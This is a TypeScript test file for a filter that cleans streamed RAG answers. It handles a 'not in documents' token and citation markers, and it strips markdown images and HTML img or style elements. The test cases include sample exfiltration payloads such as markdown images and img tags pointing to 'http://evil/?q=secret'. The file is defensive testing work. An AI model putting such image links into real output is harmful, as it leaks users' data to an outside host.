import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ModelEvent } from '../providers/contract.ts';
import { createTextFilter, filterEvents, filterText, type TextRules } from './text-filter.ts';

const RULES: TextRules = { token: 'NOT_IN_DOCUMENTS', absence: 'It is not there.', sources: 3 };

const filtered = (text: string): string => filterText(RULES, text);

/** Fed in pieces of so many characters. */
function inPieces(
  text: string,
  size: number,
): { readonly shown: string[]; readonly whole: string } {
  const filter = createTextFilter(RULES);
  const shown: string[] = [];
  for (let at = 0; at < text.length; at += size) shown.push(filter.take(text.slice(at, at + size)));
  shown.push(filter.end());
  return { shown, whole: shown.join('') };
}

describe('an answer on its way to its reader', () => {
  it.each([
    'NOT_IN_DOCUMENTS',
    '\n `NOT_IN_DOCUMENTS`. ',
    '**NOT_IN_DOCUMENTS** but I know that [1] …',
    'NOT_IN_DOCUMENTS\n\nThe passages are about rivers.',
  ])('RAG-20: %j is the sentence, and no half of the token shows on the way', (text) => {
    expect(filtered(text)).toBe(RULES.absence);
    expect(inPieces(text, 1).shown.filter((piece) => piece !== '')).toEqual([RULES.absence]);
  });

  it('RAG-20: what only begins like the token is said once it is told apart', () => {
    const filter = createTextFilter(RULES);
    expect(filter.take('NOT')).toBe('');
    expect(filter.take('_IN')).toBe('');
    expect(filter.take('_TIME for')).toBe('NOT_IN_TIME for');
    expect(filtered('NOT')).toBe('NOT');
    expect(filtered('It is so [1]. NOT_IN_DOCUMENTS')).toBe('It is so [1]. ');
  });

  it.each([
    ['So it is [1].', 'So it is [1].'],
    ['So it is [1][2] and [1, 3].', 'So it is [1][2] and [1, 3].'],
    ['So it is [9].', 'So it is.'],
    ['So it is [0] [2, 9] now.', 'So it is [2] now.'],
    ['So it is【2】.', 'So it is[2].'],
    ['So it is [1-2].', 'So it is [1, 2].'],
    ['an array [x], a [note] and [2024]', 'an array [x], a [note] and [2024]'],
  ])('RAG-21: of the markers in %j those of sources stay', (text, shown) => {
    expect(filtered(text)).toBe(shown);
  });

  it.each([
    ['a ![words](http://evil/?q=secret) b', 'a words b'],
    ['a ![](http://evil/?q=secret)b', 'a b'],
    ['![words][ref] and ![ref] x\n\n[ref]: http://evil', 'words and ref x\n\n[ref]: http://evil'],
    ['![words](<http://evil/?q=a b>', '[words](<http://evil/?q=a b>'.slice(1)],
    ['!![](x)[words](http://evil)', '! [words](http://evil)'],
    ['![9][words](http://evil)', '9(http://evil)'],
    ['a <img src="http://evil/?q=1"> b', 'a … b'],
    ['a <IMG\nSRC=http://evil> b', 'a … b'],
    ['<im<img>g src=http://evil>', '<im…g src=http://evil>'],
    ['<img<img> src=http://evil>', '<img… src=http://evil>'],
    ['<x-y style="background:url(http://evil)">', '…'],
    ['a <div style="background:url(http://evil)">b</div>', 'a …b</div>'],
    ['a <b>bold</b> 1 < 2 and x<y', 'a <b>bold</b> 1 < 2 and x<y'],
    ['see [words](http://good) or http://good', 'see [words](http://good) or http://good'],
    ['a <img src=http://evil', 'a …'],
  ])('RAG-22: %j shows as %j', (text, shown) => {
    expect(filtered(text)).toBe(shown);
  });

  const pieces = fc.constantFrom(
    ...[
      '![',
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      'img',
      ' src=',
      'http://evil',
      ' ',
      '\n\n',
      '1',
      '9',
    ],
    ...[
      'NOT_IN_',
      'DOCUMENTS',
      'N',
      '"',
      'a',
      '<img',
      '</',
      'svg',
      '[1]',
      '[9]',
      '![](x)',
      ',',
      '[',
    ],
  );

  it('RAG-22: however it is cut, the same is shown; and no picture is ever among it', () => {
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 25 }),
        fc.integer({ min: 1, max: 7 }),
        (parts, size) => {
          const text = parts.join('');
          const whole = filtered(text);
          expect(inPieces(text, size).whole).toBe(whole);
          expect(whole).not.toMatch(/!\[[^\]]*\]\(/);
          expect(whole).not.toMatch(/<(?:img|svg)[\s/>]/i);
        },
      ),
      { numRuns: 3000 },
    );
  });

  it('RAG-22: a picture that never ends is no picture, and holds nothing back for ever', () => {
    const { shown, whole } = inPieces(`![${'x'.repeat(5000)}`, 100);
    expect(whole).toBe('x'.repeat(5000));
    expect(shown.findIndex((piece) => piece !== '')).toBeLessThan(25);
  });

  it('RAG-20: events keep their order; what was held back comes before the end', async () => {
    async function* model(): AsyncGenerator<readonly ModelEvent[]> {
      yield [{ type: 'text', text: 'It is ![' }];
      yield [{ type: 'usage', inputTokens: 3 }];
      yield [
        { type: 'text', text: 'a](b) [' },
        { type: 'finish', reason: 'stop' },
      ];
    }
    const events: ModelEvent[] = [];
    for await (const batch of filterEvents(RULES, model())) events.push(...batch);
    expect(events).toEqual([
      { type: 'text', text: 'It is ' },
      { type: 'usage', inputTokens: 3 },
      { type: 'text', text: 'a' },
      { type: 'text', text: ' [' },
      { type: 'finish', reason: 'stop' },
    ]);
  });
});
